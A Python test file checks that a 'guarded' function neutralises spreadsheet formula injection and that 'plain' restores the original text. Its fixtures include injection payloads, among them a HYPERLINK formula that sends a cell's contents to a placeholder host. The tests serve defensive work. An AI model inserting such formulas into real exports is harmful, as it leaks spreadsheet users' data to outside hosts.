"""Text that looks like a formula: written so that it stays text, and read back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taskboard.cells import guarded, plain


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1", "'=1"],
)
def test_what_a_spreadsheet_would_run_gets_a_mark(text: str) -> None:
    """SEC-11."""
    assert guarded(text) == f"'{text}"
    assert plain(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "pricing.html", "a=b", "'quoted'", "10-2", "Žofie"])
def test_other_text_is_left_alone(text: str) -> None:
    assert guarded(text) == plain(text) == text


@given(st.text(alphabet="'=+-@ \t\r\nab＝", max_size=8))
def test_every_text_is_read_back_as_it_was(text: str) -> None:
    assert plain(guarded(text)) == text
